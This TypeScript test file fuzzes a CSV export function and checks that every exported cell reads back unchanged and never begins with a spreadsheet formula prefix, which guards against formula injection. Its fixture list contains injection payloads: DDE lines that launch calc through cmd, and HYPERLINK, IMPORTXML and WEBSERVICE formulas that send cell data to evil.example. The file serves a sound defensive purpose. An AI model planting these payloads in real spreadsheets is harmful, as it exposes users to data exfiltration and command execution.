import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { naughty, naughtyText, tries } from '../../core/testing/fuzz.fixture.ts';
import { csvFile } from './csv.ts';

/** Formula prefixes of spreadsheets, full-width forms included. */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;

const formulas = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '+1+cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '",=1+1',
  '";=1+1',
  '"\r\n=1+1,"',
];

const cell = fc.oneof(naughtyText, fc.constantFrom(...formulas, ...naughty));
const rows = fc.array(fc.array(cell, { minLength: 5, maxLength: 5 }), { maxLength: 20 });

async function* inPieces(all: readonly (readonly string[])[]) {
  for (let from = 0; from < all.length; from += 3) yield all.slice(from, from + 3);
}

/** The table as a spreadsheet parses it. */
async function written(all: readonly (readonly string[])[]): Promise<string[][]> {
  const file = await csvFile('x.csv', ['a', 'b', 'c', 'd', 'e'], inPieces(all));
  return parse(await file.text(), { bom: true, skip_empty_lines: false });
}

/** UTF-8 replaces lone surrogates. */
const asWritten = (text: string) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(new TextEncoder().encode(text));

test('exported cells are read back unchanged, and none is a formula', async () => {
  const property = fc.asyncProperty(rows, async (all) => {
    const [, ...back] = await written(all);
    expect(back.length).toBe(all.length);
    for (const [row, cells] of all.entries()) {
      for (const [column, text] of cells.entries()) {
        const found = back[row]?.[column] ?? '';
        expect(found).not.toMatch(FORMULA);
        expect([asWritten(text), `'${asWritten(text)}`]).toContain(found);
      }
    }
  });
  await fc.assert(property, tries(200));
});
